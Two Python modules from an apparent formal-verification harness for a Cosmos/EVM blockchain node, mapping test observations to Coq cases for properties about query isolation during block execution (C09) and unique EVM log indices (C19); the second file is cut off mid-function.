import json

ID = "C09"
HARNESS_TEST = "TestC09|TestC09Routes|TestC09Sims|TestC09Inflight"
GEN = "c09"
COQ_MODEL = ["C09/Check.v", "C09/Sites.v", "Gen/C09Facts.v"]
COQ_PROOF_DEPS = ["C09/Proofs.v", "C09/ProofsBuf.v"]
COQ_OBLIG = ["C09/Property.v", "Gen/C09Oblig.v"]
CASES_HEADER = "From Coq Require Import String. Require Import Nib.C09.Model Nib.C09.ModelBuf Nib.C09.Spec Nib.C09.Sites Nib.C09.Check Nib.Gen.C09Facts. Local Open Scope string_scope."
CASE_TYPE = "anycase"
# the model the implementation is compared with follows the regenerated inventory of pointer sites:
# Isolated (the code as it is since fix 509f604) when every access to Keeper.Bank.StateDB is guarded against
# check-state contexts, Shared (the faithful model of the unguarded code) otherwise
# … and the regenerated inventory of writes into shared byte slices + how those slices are materialised: Exact (every append
# to a package-level slice reallocates because the slice was allocated with cap = len) or Spare
MISMATCH_FN = "mismatch_any (mode_of ptr_sites) (alloc_of buffer_sites slice_origins) (appended_bases buffer_sites)"
VIOLATES_FN = "violates_any"
RULE = ("four drivers. (4) inflight: block B delivers txs of one signer made of evm.MsgCreateFunToken(from one of 3 bank coins with distinct "
        "name/symbol/decimals, or from the signer's token-factory denom) / MsgConvertCoinToEvm / tokenfactory msgs / an EVM contract "
        "creation with constructor arguments, while txs of the SAME kinds of a second signer over OTHER coins / arguments are "
        "SIMULATED (baseapp.Simulate) INSIDE each DeliverTx, at store-read yield points given by the node's store tracer "
        "(--trace-store writer): at every traced read (dense), every n-th read from an offset, or a single read; compared with "
        "the replica that serves nothing: every DeliverTx response, every app hash, name/symbol/decimals of every ERC20 created "
        "for a bank coin; non-trivial = at least one simulation succeeded inside a DeliverTx that returned code 0; first record "
        "= spare capacity (cap-len) of every package-level byte slice shared by both paths. (3) sims: a dependency chain of Cosmos messages of one signer (bank send, tokenfactory create/mint/burn/change-admin, evm "
        "CreateFunToken(from coin) / ConvertCoinToEvm) over 3 denoms; multi- and single-message txs made of chain messages are SIMULATED "
        "(baseapp.Simulate, never committed) after Commit of block A or inside block B, while sub-sequences of the chain are delivered in "
        "blocks A and B; compared: every DeliverTx response and app hash; non-trivial = a multi-message simulation succeeded and block B "
        "delivers something. (2) routes: every method of the generated QueryServer interface of inflation / oracle / epochs / sudo / tokenfactory / "
        "devgas / evm (enumerated by reflection, empty + populated request, through app.Query) issued after Commit of / inside a chosen block of "
        "a sequence that ends two day epochs (inflation mints), vote periods and a slash window; non-trivial = requests answered and the "
        "reference replica minted. (1) case = (deliver script: init code of a contract-creation EVM tx made of yield / native send / FunToken.bankMsgSend steps, "
        "optionally reverting; 0-3 requests: eth_call / estimateGas / traceTx (view, value transfer, bankMsgSend of unibi or of another "
        "denom, sendToBank / sendToEvm of a mapped ERC20; five argument styles incl. EIP-1559 fee cap + tip), tx simulation (EVM transfer, "
        "EVM bankMsgSend, Cosmos bank send), gRPC balance / funtoken / oracle queries; the scenario tx is priced exactly at the base fee, "
        "the tail tx is a dynamic-fee tx, the init code stores the block context incl. BASEFEE; injection "
        "point: inside the k-th yield of the in-flight tx, before the tx, between the two txs, after Commit, or PARKED: the request runs "
        "in its own goroutine and is blocked inside FunToken.sendToBank / sendToEvm (bank keeper log line) while both txs are delivered), executed through "
        "BeginBlock/DeliverTx/EndBlock/Commit on two replicas (with / without the requests); non-trivial = at least one request was "
        "issued while the EVM tx was in flight (point=yield and reached) or really parked inside a precompile method; distinct = distinct input")
ASSUMPTIONS = [
    "requests are injected inline at yield points of the delivering goroutine (a test precompile registered through "
    "Keeper.AddPrecompiles); schedules in which a request is pre-empted half-way are covered by the model only",
    "inside Cosmos-message DeliverTx calls the yield points are the traced store reads of the node's store tracer (--trace-store "
    "writer); a request runs to completion at a yield point",
    "shared byte slices: which library allocators return cap = len is a reviewed list (Sites.exact_allocators), cross-checked on "
    "every run by observing cap-len of every embedded byte code; a shared slice handed to a callee that writes into it is not recognised",
    "gas used by the in-flight tx and by simulated txs is read from the implementation (oracle values), not modelled",
    "the two replicas start from identical genesis bytes and deterministic keys; app-hash equality stands for equality of all committed state",
]
TRUSTED = ["translation of query kinds to model step scripts (coq/C09/Check.v query_script, deliver_script)"]
HARNESS_TIMEOUT = {"quick": 600, "thorough": 3600}

ACCT = {0: "aK", 1: "aX", 2: "aY", 3: "aZ"}
QKIND = {
    "call_read": "QRead", "grpc_bank": "QRead", "grpc_evm_balance": "QRead", "grpc_funtoken": "QRead", "grpc_oracle": "QRead",
    "call_xfer": "QCallXfer", "call_bank": "QCallBank", "call_bank_other": "QCallBankOther", "call_s2b": "QCallBankOther",
    "est_xfer": "QEstXfer", "est_bank": "QEstBank", "trace_bank": "QTraceBank", "trace_call": "QCallXfer", "trace_block": "QCallXfer",
    "est_s2b": "QCallBankOther", "trace_s2b": "QCallBankOther", "call_s2e": "QCallBankOther",
    "sim_evm": "QSimEvm", "sim_evm_bank": "QSimEvmBank", "sim_bank": "QSimBank",
}
# entry point : operation, as used in finding signatures
QNAME = {
    "call_read": "EthCall:FunToken.bankBalance", "call_xfer": "EthCall:transfer", "call_bank": "EthCall:FunToken.bankMsgSend(unibi)",
    "call_bank_other": "EthCall:FunToken.bankMsgSend(other-denom)", "call_s2b": "EthCall:FunToken.sendToBank(erc20)",
    "est_xfer": "EstimateGas:transfer", "trace_call": "TraceCall:transfer", "trace_block": "TraceBlock:transfer",
    "est_s2b": "EstimateGas:FunToken.sendToBank(erc20)", "trace_s2b": "TraceTx:FunToken.sendToBank(erc20)",
    "call_s2e": "EthCall:FunToken.sendToEvm(erc20-denom)",
    "est_bank": "EstimateGas:FunToken.bankMsgSend(unibi)", "trace_bank": "TraceTx:FunToken.bankMsgSend(unibi)",
    "sim_evm": "Simulate:MsgEthereumTx(transfer)", "sim_evm_bank": "Simulate:MsgEthereumTx(FunToken.bankMsgSend(unibi))",
    "sim_bank": "Simulate:bank.MsgSend(unibi)", "grpc_bank": "gRPC:bank.Balance", "grpc_evm_balance": "gRPC:evm.Balance",
    "grpc_funtoken": "gRPC:evm.FunTokenMapping", "grpc_oracle": "gRPC:oracle.ExchangeRates",
}
# kinds that perform a unibi bank operation (the only way a request reached Keeper.Bank.StateDB before fix 509f604)
BANKING = {"call_bank", "est_bank", "trace_bank", "sim_evm", "sim_evm_bank", "sim_bank"}


def _z(x):
    return "(%d)%%Z" % int(x)


def _b(x):
    return "true" if x else "false"


def _zl(xs):
    return "[" + "; ".join(_z(x) for x in xs) + "]"


def _is_route(rec):
    return isinstance(rec.get("input"), dict) and rec["input"].get("driver") == "routes"


def _is_sims(rec):
    return isinstance(rec.get("input"), dict) and rec["input"].get("driver") == "sims"


def _is_infl(rec):
    return isinstance(rec.get("input"), dict) and rec["input"].get("driver") == "inflight"


def _is_slices(rec):
    return isinstance(rec.get("input"), dict) and rec["input"].get("driver") == "slices"


def _payload(m, signer):
    """metadata id of the coin whose ERC20 a MsgCreateFunToken deploys (0 is the model's 'no buffer' value)"""
    return m["key"] + 1 if 0 <= m["key"] < 3 else 10 + signer


def _infl_payloads(rec):
    i, o = rec["input"], rec["obs"]
    codes = o["codes"]
    npre = len(i["pre"])
    exact = len(codes) == npre + len(i["deliver"])
    dl = []
    for n, tx in enumerate(i["deliver"]):
        if exact and codes[npre + n] != 0:
            continue
        dl += [_payload(m, 0) for m in tx if m["kind"] == "ft_create"]
    sl = [_payload(m, 1) for tx in i["sims"] for m in tx if m["kind"] == "ft_create"]
    return dl, sl


def _nl(xs):
    return "[" + "; ".join("%d%%nat" % x for x in xs) + "]"


def to_coq_case(rec):
    if _is_slices(rec):
        return "(CSlices [%s])" % "; ".join('("%s", %d%%nat)' % (e["name"], e["spare"]) for e in rec["obs"].get("slices") or [])
    if _is_infl(rec):
        o = rec["obs"]
        dl, sl = _infl_payloads(rec)
        dense = o["dense"] and o["sim_err"] == 0 and o["sim_ok"] > 0
        return "(CInfl (mkInfl %s %s %s (mkRoute %s %s %s)))" % (
            _b(dense), _nl(dl), _nl(sl), _b(o["hash_eq"]), _b(o["results_eq"] and o["meta_eq"] and not o.get("panic") and not o.get("blocked")), _b(o["events_eq"]))
    if _is_sims(rec):
        o = rec["obs"]
        return "(CSim (mkRoute %s %s %s))" % (_b(o["hash_eq"]), _b(o["results_eq"] and not o.get("panic")), _b(o["events_eq"]))
    if _is_route(rec):
        o = rec["obs"]
        return "(CRoute (mkRoute %s %s %s))" % (_b(o["hash_eq"]), _b(o["supply_eq"]), _b(o["events_eq"] and not o.get("panic")))
    return "(CEvm %s)" % _evm_case(rec)


def _evm_case(rec):
    i, o = rec["input"], rec["obs"]
    steps = []
    for s in i["steps"]:
        if s["op"] == "yield":
            steps.append("DYield")
        elif s["op"] == "send":
            steps.append("DSend %s %s" % (ACCT[s["to"]], _z(s["amt"])))
        else:
            steps.append("DBank %s %s" % (ACCT[s["to"]], _z(s["amt"])))
    qs = []
    qgas = o.get("qgas") or []
    for n, q in enumerate(i["queries"]):
        g = qgas[n] if n < len(qgas) else 0
        qs.append("mkQ %s %s %s %s" % (QKIND[q["kind"]], ACCT[q["to"]], _z(q["amt"]), _z(g)))
    if not o["injected"] or not i["queries"]:
        pt = "PNone"
    else:
        pt = {"yield": "(PYield %d)" % i["k"], "pre": "PPre", "post": "PPost", "interblock": "PInter",
              "parked": "PParked" if o.get("parked") else "PPre"}[i["point"]]
    ob = "(mkObs %s %s %s %s %s %s %s)" % (_b(o["hash_eq"]), _b(o["next_eq"]), _b(o["tx_eq"]), _b(o["base_ok"]), _b(o["tx_ok"]),
                                          _zl(o["base"]), _zl(o["with"]))
    return "(mkCase %s %s %s %s [%s] %s %s [%s] %s %s %s %s %s)" % (
        _z(i["value"]), _z(i["bal"][0]), _z(i["bal"][1]), _z(i["bal"][2]), "; ".join(steps), _b(i["revert"]), pt,
        "; ".join(qs), _z(o["gas"][0]), _z(o["gas"][1]), _z(o["gas2"][0]), _z(o["gas2"][1]), ob)


def _in_flight(rec):
    i, o = rec["input"], rec["obs"]
    if _is_slices(rec):
        return False
    if _is_infl(rec):
        # a simulation succeeded INSIDE a DeliverTx of block B that returned code 0
        return o["served"] > 0 and o["sim_ok"] > 0 and any(c == 0 for c in o["codes"][len(i["pre"]):])
    if _is_sims(rec):
        # a multi-message simulation ran to completion and the later block delivered something
        return any(r == "ok" and len(t) >= 2 for r, t in zip(o["sim_res"], i["sims"])) and len(i["post"]) > 0
    if _is_route(rec):
        # the requests were answered and the block sequence really minted (a day epoch ended) on the reference replica
        return o["q_ok"] > 0 and int(o["minted"]) > 0
    if i["point"] == "parked":
        return bool(o.get("parked"))
    return i["point"] == "yield" and o["injected"] and len(i["queries"]) > 0


def nontrivial(rec):
    return _in_flight(rec)


def classify(rec):
    i, o = rec["input"], rec["obs"]
    if _is_slices(rec):
        return ["driver:inflight", "slices-observed=%d" % len(o.get("slices") or []),
                "slices-with-spare-capacity=%d" % sum(1 for e in o.get("slices") or [] if e["spare"] > 0)]
    if _is_infl(rec):
        shape = "dense" if i["every"] == 1 and i["max"] > 1 else ("single" if i["max"] == 1 else "sparse")
        ks = ["driver:inflight", "deliver:" + "|".join("+".join(m["kind"] for m in tx) for tx in i["deliver"]),
              "simulated:" + "|".join("+".join(m["kind"] for m in tx) for tx in i["sims"]), "yield:" + shape,
              "served:" + ("0" if o["served"] == 0 else "1" if o["served"] == 1 else "2-20" if o["served"] <= 20 else ">20"),
              "interference:" + _effect(rec)]
        ks += ["sim:ok"] * (1 if o["sim_ok"] else 0) + ["sim:err"] * (1 if o["sim_err"] else 0) + ["code:%d" % c for c in o["codes"]]
        return ks
    if _is_sims(rec):
        ks = ["driver:sims", "chain:" + "+".join(m["kind"] for m in i["chain"]), "sims=%d" % len(i["sims"]),
              "sim_at:" + ("in-block" if i["sim_in"] else "between-blocks"), "interference:" + _effect(rec)]
        ks += ["sim:" + r for r in o["sim_res"]] + ["code:%d" % c for c in o["codes"]]
        return ks
    if _is_route(rec):
        return ["driver:routes", "svc:" + i["svc"], "at:%s/%d" % (i["at"], i["block"]), "routes=%d" % o["routes"],
                "interference:" + _effect(rec)]
    ks = ["point:" + ((i["point"] + ("" if i["point"] != "parked" or o.get("parked") else "-not-parked")) if o["injected"] else "not-reached"), "queries=%d" % len(i["queries"]),
          "steps=%d" % len(i["steps"]), "revert" if i["revert"] else "no-revert"]
    for q, r in zip(i["queries"], o["qres"]):
        ks.append("q:" + q["kind"])
        ks.append("qres:" + r)
    ks.append("interference:" + _effect(rec))
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": rec["obs"]}


def _effect(rec):
    o = rec["obs"]
    if _is_slices(rec):
        return "none"
    if _is_infl(rec):
        if o.get("blocked"):
            return "request-blocked-on-store-mutex-of-block-execution"
        if o.get("panic"):
            return "block-execution-panicked"
        if o["codes"] != o["codes_w"]:
            return "deliver-tx-code-changed"
        if not o["meta_eq"]:
            return "deployed-erc20-metadata-changed"
        if not o["results_eq"]:
            return "deliver-tx-result-changed"
        if not o["hash_eq"]:
            return "app-hash-differs"
        return "none" if o["events_eq"] else "tx-events-differ"
    if _is_sims(rec):
        if o.get("panic"):
            return "block-execution-panicked"
        if o["codes"] != o["codes_w"]:
            return "deliver-tx-code-changed"
        if not o["results_eq"]:
            return "deliver-tx-result-changed"
        if not o["hash_eq"]:
            return "app-hash-differs"
        return "none" if o["events_eq"] else "tx-events-differ"
    if _is_route(rec):
        if o.get("panic"):
            return "block-execution-panicked"
        if not o["supply_eq"]:
            return "supply-differs"
        if not o["hash_eq"]:
            return "app-hash-differs"
        return "none" if o["events_eq"] else "block-events-differ"
    if o.get("panic"):
        return "deliver-tx-panicked"
    if o["base_ok"] and not o["tx_ok"]:
        return "deliver-tx-failed"
    if o["base_ok"] != o["tx_ok"]:
        return "deliver-tx-result-changed"
    if o["base"] != o["with"]:
        return "committed-balance-delta-without-signature"
    if not (o["hash_eq"] and o["next_eq"] and o["tx_eq"]):
        # app hash (an account re-written in the auth store) and/or bank events in the tx response
        return "observable-difference-without-balance-change"
    return "none"


def signature(rec):
    """Identifies a finding: where the request ran, which requests could reach the shared StateDB pointer (entry point :
    operation; all requests of the case when none of them performs a unibi bank operation), what changed."""
    i = rec["input"]
    if _is_slices(rec):
        return {"kind": "shared-slices", "query": "-", "effect": "none"}
    if _is_infl(rec):
        simmed = sorted({m["kind"] for t in i["sims"] for m in t})
        delivered = sorted({m["kind"] for t in i["deliver"] for m in t})
        return {"kind": "tx-simulation-inside-DeliverTx[" + ",".join(delivered) + "]", "query": "Simulate:[" + ",".join(simmed) + "]",
                "effect": _effect(rec)}
    if _is_sims(rec):
        simmed = sorted({i["chain"][j]["kind"] for t in i["sims"] for j in t if 0 <= j < len(i["chain"])})
        return {"kind": "tx-simulation-" + ("in-block" if i["sim_in"] else "between-blocks"), "query": "Simulate:[" + ",".join(simmed) + "]",
                "effect": _effect(rec)}
    if _is_route(rec):
        return {"kind": "grpc-routes-%s-block" % i["at"], "query": "all-routes:" + i["svc"], "effect": _effect(rec)}
    kinds = sorted({q["kind"] for q in i["queries"]})
    banking = [k for k in kinds if k in BANKING]
    named = banking if (banking and _in_flight(rec)) else kinds
    where = ("query-parked-in-precompile(%s)" % i.get("park", "")) if (i["point"] == "parked" and _in_flight(rec)) else \
        ("query-at-yield-point" if _in_flight(rec) else "query-at-" + i["point"])
    return {"kind": where,
            "query": "+".join(QNAME[k] for k in named), "effect": _effect(rec)}


def input_size(inp):
    if inp.get("driver") == "slices":
        return 1
    if inp.get("driver") == "inflight":
        return 10 * sum(len(t) for t in inp["sims"] + inp["deliver"] + inp["pre"]) + len(inp["sims"]) + (0 if inp["max"] == 1 else 5)
    if inp.get("driver") == "sims":
        return 10 * sum(len(t) for t in inp["sims"]) + 5 * sum(len(t) for t in inp["pre"] + inp["post"]) + len(inp["sims"])
    if inp.get("driver") == "routes":
        return 100 if inp["svc"] == "all" else 10
    return len(inp["steps"]) * 10 + len(inp["queries"]) * 25 + (5 if inp["revert"] else 0) + \
        sum(1 for s in inp["steps"] if s["op"] != "yield")


def shrink_candidates(inp):
    if inp.get("driver") == "slices":
        return []
    if inp.get("driver") == "inflight":
        out = []
        for f in ("sims", "deliver", "pre"):
            l = inp[f]
            for n in range(len(l)):
                if len(l) > 1 or f == "pre":
                    out.append(dict(inp, **{f: l[:n] + l[n + 1:]}))           # drop a tx
                for k in range(len(l[n])):
                    if len(l[n]) > 1:
                        out.append(dict(inp, **{f: l[:n] + [l[n][:k] + l[n][k + 1:]] + l[n + 1:]}))  # drop a message
        return out
    if inp.get("driver") == "sims":
        out = []
        for f in ("sims", "pre", "post"):
            l = inp[f]
            for n in range(len(l)):
                out.append(dict(inp, **{f: l[:n] + l[n + 1:]}))           # drop a tx
                for k in range(len(l[n])):
                    if len(l[n]) > 1:
                        out.append(dict(inp, **{f: l[:n] + [l[n][:k] + l[n][k + 1:]] + l[n + 1:]}))  # drop a message
        return out
    if inp.get("driver") == "routes":
        if inp["svc"] == "all":
            return [dict(inp, svc=s) for s in ("inflation", "oracle", "epochs", "sudo", "tokenfactory", "devgas", "evm")]
        return []
    out = []
    qs, st = inp["queries"], inp["steps"]
    if len(qs) > 1:
        for n in range(len(qs)):
            out.append(dict(inp, queries=qs[:n] + qs[n + 1:]))
    for n, s in enumerate(st):
        if s["op"] != "yield":
            out.append(dict(inp, steps=st[:n] + st[n + 1:]))
    ys = [n for n, s in enumerate(st) if s["op"] == "yield"]
    if len(ys) > 1:
        for rank, n in enumerate(ys):
            if inp["point"] == "yield" and rank == inp["k"]:
                continue
            k = inp["k"] - 1 if (inp["point"] == "yield" and rank < inp["k"]) else inp["k"]
            out.append(dict(inp, steps=st[:n] + st[n + 1:], k=k))
    if inp["revert"]:
        out.append(dict(inp, revert=False))
    return out


def model_search(chk):
    """Sweep the MODEL (in the mode selected by the regenerated facts) over every request kind x injection point on two
    deliver scripts and return, as harness inputs, the combinations for which the model predicts interference, followed by
    all the others (the implementation is then replayed on them by check.py)."""
    import os, re
    y = {"op": "yield", "to": 0, "amt": 0}
    scripts = [[y], [{"op": "send", "to": 2, "amt": 7000000}, y, {"op": "bank", "to": 3, "amt": 2000000}]]
    inputs = []
    for st in scripts:
        for kind in QKIND:
            for point in ("yield", "pre", "post", "interblock"):
                inputs.append({"value": 30000000, "bal": [50000000, 1000000, 0], "steps": st, "revert": False, "point": point, "k": 0,
                               "queries": [{"kind": kind, "to": 2, "amt": 5000000}]})
    fake = {"hash_eq": True, "next_eq": True, "tx_eq": True, "base_ok": True, "tx_ok": True, "base": [], "with": [],
            "gas": [60000, 60000], "gas2": [21000, 21000], "qgas": [47000], "qres": ["ok"], "injected": True}
    wd = os.path.join(chk.BUILD, "run", ID)
    os.makedirs(wd, exist_ok=True)
    path = os.path.join(wd, "sweep_C09.v")
    with open(path, "w") as f:
        f.write("From Coq Require Import List ZArith String. Import ListNotations.\n" + CASES_HEADER + "\n")
        f.write("Set Printing Width 1000000. Set Printing Depth 1000000.\n")
        f.write("Definition cs : list (nat * case) := [\n")
        f.write(";\n".join("  (%d, %s)" % (n, _evm_case({"input": i, "obs": fake})) for n, i in enumerate(inputs)))
        f.write("\n].\nDefinition bad := Eval vm_compute in map fst (filter (fun c => negb (Pb (predict (mode_of ptr_sites) (snd c)))) cs).\nPrint bad.\n")
    rc, out, _ = chk.coqc(path)
    pred = []
    if rc == 0:
        m = re.search(r"bad\s*=\s*\[(.*?)\]", out, re.S)
        if m:
            pred = [int(x) for x in re.split(r"[;\s]+", m.group(1)) if x.strip()]
    rest = [n for n in range(len(inputs)) if n not in pred]
    return [inputs[n] for n in pred + rest][:50]


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("PARTIAL (schedules of real goroutines are exhibited by injection only). Coq interleaving model of the one piece of "
                 "mutable data block execution and read-only requests could share (the process-wide pointer Keeper.Bank.StateDB: "
                 "publish/reuse in EthereumTx & co., mirror in every bank operation, deferred clear), thread 0 = DeliverTx, threads "
                 "1.. = eth_call / estimateGas / traceTx / simulation / gRPC scripts, semantics over ALL schedules. A go/ast "
                 "inventory of every function touching the pointer is regenerated from /repo on each run; the obligations "
                 "C09_every_access_guarded (every access sits behind ctx.IsCheckTx(), which is true for query, simulation and CheckTx "
                 "contexts) and C09_pointer_sites_known hold for the current tree and break on a new unguarded access; "
                 "C09_shared_mutable_state_known: every reference-like or re-assigned field of the singleton structs shared by both paths "
                 "(the Keepers of evm, inflation, oracle, epochs, sudo, tokenfactory, devgas, the bank keeper wrapper, the precompile "
                 "objects built once by InitPrecompiles) and every re-assigned / sync package-level var of those modules is classified "
                 "in a hand-maintained table (immutable after construction / store-backed / registry / per-call "
                 "/ the one guarded pointer) — a new cache, flag or counter breaks it; C09_no_unreviewed_aliasing: every in-place "
                 "big-number operation on a receiver that is not syntactically fresh and every function returning a package-level "
                 "variable itself is a reviewed site; C09_shared_buffers_justified: every append / index write / copy whose base is a "
                 "package-level slice (x/evm/embeds byte codes included) or a singleton field is a reviewed append site whose base is "
                 "materialised by an exact-capacity allocator (so the append reallocates instead of writing into the shared backing "
                 "array), which selects the buffer model Exact, for which C09_current_tree_buffers proves the full statement over all "
                 "schedules (C09_buffers_noninterference_refuted: with spare capacity a simulated MsgCreateFunToken between append and "
                 "constructor changes the committed ERC20; C09_buffers_copy_first). For the model "
                 "these facts select, C09_current_tree proves the FULL statement: for all request scripts, stores and schedules, the "
                 "pointer and the whole deliver thread (committed ledger, written accounts, tx failure, result/event log) equal the "
                 "run of DeliverTx alone, and (C09_current_tree_sequential) the complete sequential execution — by induction over "
                 "schedules (C09_noninterference_partial is the same theorem stated for the Isolated model). For the unguarded "
                 "(Shared) model, i.e. the tree before fix 509f604 or after its reversal, C09_noninterference_refuted gives a 5-step "
                 "schedule and C09_interference_only_through_hazard / C09_hazard_is_bank_op_while_published characterise the only "
                 "failure class. The selected model's prediction of all observables (app-hash equality, both tx results, 7 "
                 "balances on two replicas) is compared on every run with real BeginBlock/DeliverTx/EndBlock/Commit executions in "
                 "which requests go through app.Query / app.Simulate inside an in-flight EVM tx (yield precompile), before it, "
                 "between two txs, after Commit, and from a second goroutine PARKED inside a FunToken precompile method while the "
                 "block's txs enter the precompile; a second driver calls EVERY gRPC query route of the seven custom modules (enumerated "
                 "by reflection) around blocks that end day epochs (inflation mints), oracle vote periods and a slash window and "
                 "compares app hashes, supply and block events; a third driver SIMULATES single- and multi-message Cosmos txs (bank, "
                 "tokenfactory, FunToken msgs; never committed) between the blocks that deliver sub-sequences of the same messages "
                 "and compares every DeliverTx response and app hash; a fourth driver serves simulations of the SAME message kinds "
                 "(MsgCreateFunToken, MsgConvertCoinToEvm, contract creation; other coins / arguments) INSIDE DeliverTx at the store-read "
                 "yield points of the node's store tracer and compares responses, app hashes and the metadata of the deployed ERC20s, and "
                 "observes cap-len of every shared byte slice (C09_branch_isolation_generic: with per-branch steps of ANY "
                 "kind the deliver branch evolves as alone under every schedule); Pb (sound w.r.t. P) must hold on every observed pair."),
        "design_ref": "DESIGN.md §5 C09",
    },
    "level_note": ("Theorems are about the model; real schedules are exhibited by inline injection at yield points and by parking one "
                   "request goroutine at two bank-keeper log lines inside sendToBank / sendToEvm (other pre-emption points inside a "
                   "request are covered by the model and by the static inventory only; the inventory covers the seven custom modules and "
                   "does not descend into the SDK / wasmd keepers they point to); TestRaceC09 gives -race evidence with real goroutines (before the fix: 103 "
                   "reports + committed corruption; after: balances intact, 2 benign reports from value-receiver copies of "
                   "NibiruBankKeeper). The guard recognition of the extractor is syntactic (two accepted forms) and only selects the "
                   "model: M (model vs implementation) and V (Pb on the implementation) still decide. Oracle values: gas of the "
                   "in-flight, tail and simulated txs (a gas difference without a model hazard is a mismatch). Shared-model comparison "
                   "is relaxed after a hazard (events surviving reverted frames; simulated EVM tx committing the shared StateDB in a "
                   "reverted frame). Remaining design caveats, outside the property: requests share nothing with DeliverTx nor with "
                   "each other, so a simulated EVM tx (app.Simulate) no longer mirrors its own precompile bank operations into its "
                   "own StateDB (as eth_call/estimateGas never did) — simulation fidelity only. Other process-wide state a future "
                   "change might add is caught only if block execution observes it (the init code stores COINBASE, TIMESTAMP, NUMBER, "
                   "PREVRANDAO, GASLIMIT, CHAINID, BASEFEE; the scenario block has a proposer, its neighbours none). Fix 509f604 "
                   "came out of this check (findings: EthCall/EstimateGas/TraceTx bankMsgSend and any fee-paying Simulate)."),
    "technique": "Coq proof (induction over schedules of two interleaving models: shared StateDB pointer, shared byte slices; refutation of the unguarded / spare-capacity models by vm_compute) + generated pointer-site and buffer-site facts selecting the models + differential replicas with requests injected at yield points (test precompile, store tracer)",
}
