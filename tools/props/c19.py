"""C19 — EVM log and tx indices are unique and gap-free within a block."""
import json

ID = "C19"
GEN = "c19"
HARNESS_TEST = "TestC19"
COQ_MODEL = ["C19/Check.v", "Gen/C19Facts.v"]
COQ_PROOF_DEPS = ["C19/Proofs.v"]
COQ_OBLIG = ["C19/Property.v", "Gen/C19Oblig.v"]
CASES_HEADER = "From Coq Require Import String.\nFrom Coq Require Import List.\nRequire Import Nib.C19.Sites Nib.C19.Model Nib.C19.Spec Nib.C19.Check Nib.Gen.C19Facts.\nOpen Scope string_scope."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch current_sites current_wiring"
VIOLATES_FN = "violates"
RULE = ("cases = 1-3 consecutive blocks of 0-7 ops (eth tx with 0-4 logs, optionally after an inner call frame that emitted 1-3 logs and reverted / two-message eth tx / revert / ante failure / msg-server failure, "
        "MsgCreateFunToken, MsgConvertCoinToEvm for coin-born and ERC20-born FunTokens, FunToken.sendToBank precompile calls whose logs include mirrored ABCI events) delivered through BeginBlock/DeliverTx/EndBlock/Commit; "
        "in half of the cases blocks additionally have 1-3 governance proposals coming due (1-3 FunToken messages each, sender = gov module account: "
        "MsgCreateFunToken from a bank coin, MsgConvertCoinToEvm coin-born / ERC20-born, 1 in 6 made to fail so that the proposal is rolled back) which "
        "x/gov's EndBlocker executes in that block - EVM logs emitted outside DeliverTx, some of these blocks have no tx at all; logs in the BeginBlock response are recorded too; "
        "non-trivial = some block holds a FunToken op that emitted logs AND an Ethereum tx with logs after another "
        "log-emitting op (the shape in which indices can collide), OR a passed proposal emitted logs at end of block; distinct = distinct input")
ASSUMPTIONS = [
    "number of logs an ERC20 deploy / mint emits is read from the implementation trace (oracle value), not modelled",
    "EventTxLog / EventEthereumTx / EventBlockBloom as parsed from ABCI events are what clients see",
    "EndBlocker classification (coq/C19/Sites.v inert_modules): the listed modules' EndBlockers execute no sdk.Msg and make no EVM call; every module not listed (x/gov, unknown ones) is treated as message-executing",
    "proposals are submitted / deposited / voted at keeper level in a set-up block; the per-message split of a passed proposal's logs is even (the events of its messages arrive merged)",
    "no BeginBlocker of the tree can execute messages (x/upgrade handlers are compiled in and emit no EventTxLog); the model's BeginBlock phase is exercised by the theorems only, the driver records BeginBlock logs if any appear",
]


def _out(op, ob):
    if op["kind"] == "s2b":
        # precompile call through an Ethereum tx: outcome and log count are read from the trace
        if ob["code"] != 0:
            return "FailMsg"
        return "Ok" if ob["logs"] else "Revert"
    if op["kind"] == "eth":
        if op["fail"] == "nonce":
            return "FailAnte"
        if op["fail"] == "gas":
            return "FailMsg"
        return "Revert" if op["revert"] else "Ok"
    return "Ok" if ob["code"] == 0 else "FailMsg"


def _kind(op, ob):
    return {"eth": "Eth", "s2b": "Eth", "create": "Create", "convert": "ConvCoin", "conv20": "ConvErc20"}[op["kind"]]


def _nat_list(xs):
    return "[" + "; ".join(str(x) for x in xs) + "]"


def _split(ops, obs):
    """A two-message Ethereum tx is two consecutive Eth ops of the model; its observation is split accordingly."""
    for op, ob in zip(ops, obs):
        if op["kind"] != "eth2":
            yield op, ob
            continue
        ok = ob["code"] == 0
        fail = "" if ok else "gas"
        o1 = {"kind": "eth", "k": op["k"], "revert": False, "fail": fail, "sender": op["sender"]}
        o2 = {"kind": "eth", "k": op["k2"], "revert": op["revert"], "fail": fail, "sender": op["sender"]}
        n1 = op["k"] if ok else 0
        b1 = {"code": ob["code"], "txidx": ob["txidx"][:1], "logs": ob["logs"][:n1]}
        b2 = {"code": ob["code"], "txidx": ob["txidx"][1:], "logs": ob["logs"][n1:]}
        yield o1, b1
        yield o2, b2


def _ops(b):
    return b if isinstance(b, list) else b.get("ops", [])


def _gov(b):
    return [] if isinstance(b, list) else (b.get("gov") or [])


_MSGKIND = {"create": "Create", "convert": "ConvCoin", "conv20": "ConvErc20"}


def _emit(ok, txidx, logs):
    return "{| e_ok := %s; e_txidx := %s; e_logs := [%s] |}" % (
        "true" if ok else "false", _nat_list(txidx), "; ".join("(%d, %d)" % (a, b) for a, b in logs))


def _op(kind, out, k):
    return "{| o_kind := %s; o_out := %s; o_k := %d |}" % (kind, out, k)


def to_coq_case(rec):
    blocks = []
    for blk, bo in zip(rec["input"], rec["obs"]):
        items = []
        for op, ob in _split(_ops(blk), bo["ops"]):
            k = op["k"] if op["kind"] == "eth" else len(ob["logs"])
            items.append("(%s, %s)" % (_op(_kind(op, ob), _out(op, ob), k), _emit(ob["code"] == 0, ob["txidx"], ob["logs"])))
        begin = []
        if bo.get("begin"):
            begin.append("(%s, %s)" % (_op("ConvCoin", "Ok", len(bo["begin"])), _emit(True, [], bo["begin"])))
        props = []
        for msgs, po in zip(_gov(blk), bo.get("gov", [])):
            passed = po["result"] == "passed"
            n, tot = len(msgs), len(po["logs"])
            ops = []
            for i, m in enumerate(msgs):
                k = (tot // n + (1 if i < tot % n else 0)) if passed else 0
                ops.append(_op(_MSGKIND[m["kind"]], "Ok" if passed else "FailMsg", k))
            props.append("([%s], %s)" % ("; ".join(ops), _emit(passed, [], po["logs"])))
        end = []
        if props:
            end.append('("gov", [%s])' % "; ".join(props))
